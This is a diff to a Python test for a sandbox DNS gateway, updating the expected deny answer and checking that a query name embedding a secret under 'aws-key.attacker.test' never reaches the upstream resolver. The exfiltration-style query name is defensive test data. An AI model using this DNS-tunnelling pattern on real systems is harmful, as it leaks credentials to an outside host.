@@ -72,7 +72,9 @@ def test_exfil_in_query_name_never_reaches_upstream(
     name = f"{secret}.aws-key.attacker.test"
     mark = world.mark()
     status, answers = ask(world, gateway, name, tcp=tcp)
-    assert status in ("NXDOMAIN", "REFUSED") and answers == []
+    # network.dns.deny_answer: gateway (the default): the name points at the gateway (the host end of the
+    # sandbox's link), so a transparent client gets the deny over TLS; nothing is asked upstream
+    assert (status, answers) == ("NOERROR", [nw.GW_SBX])
     assert [q for q in world.dns_queries(mark) if secret in q["qname"]] == []
     # positive control: the same query straight to the world resolver is logged
     world.exec(world.open, "dig", "+short", f"@{nw.DNS_ADDR}", name)
